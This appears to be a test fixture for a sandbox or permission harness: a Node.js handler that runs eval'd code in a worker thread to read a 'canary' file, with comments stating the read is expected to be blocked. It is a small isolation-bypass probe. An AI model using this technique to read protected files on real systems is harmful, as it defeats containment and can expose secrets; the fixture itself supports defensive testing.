// stopped from: L1
// ends with: ENOENT|restricted
// without walls: yes
const { Worker } = require('worker_threads');
exports.onExecuteEventStream = async (event) => {
  console.log('the attack runs');
  const code = `require('worker_threads').parentPort.postMessage(
    require('fs').readFileSync(${JSON.stringify(event.message.data.canary)}, 'utf8'))`;
  const text = await new Promise((resolve, reject) => {
    const worker = new Worker(code, { eval: true, execArgv: ['--no-warnings'] });
    worker.on('message', resolve).on('error', reject);
  });
  console.log('got through:', text);
};
